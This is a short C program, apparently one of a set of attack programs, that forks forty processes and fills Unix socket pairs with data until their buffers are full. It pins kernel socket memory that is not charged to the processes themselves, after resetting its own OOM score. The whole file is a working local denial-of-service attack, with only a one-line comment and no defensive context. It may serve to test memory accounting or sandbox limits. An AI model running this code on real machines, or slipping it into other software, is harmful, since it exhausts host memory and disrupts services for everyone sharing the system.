/* Forty processes without memory of their own fill sockets. */
#include "attack.h"

#include <sys/socket.h>

int main(int c, char **v)
{
    int f = open("/proc/self/oom_score_adj", O_WRONLY);
    write(f, "0", 1);
    for (int i = 0; i < 40; i++)
        if (fork() == 0)
            break;
    static char b[1 << 14];
    int p[2];
    while (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, p) == 0) {
        while (write(p[1], b, sizeof b) > 0)
            ;
        while (write(p[0], b, sizeof b) > 0)
            ;
    }
    pause();
}
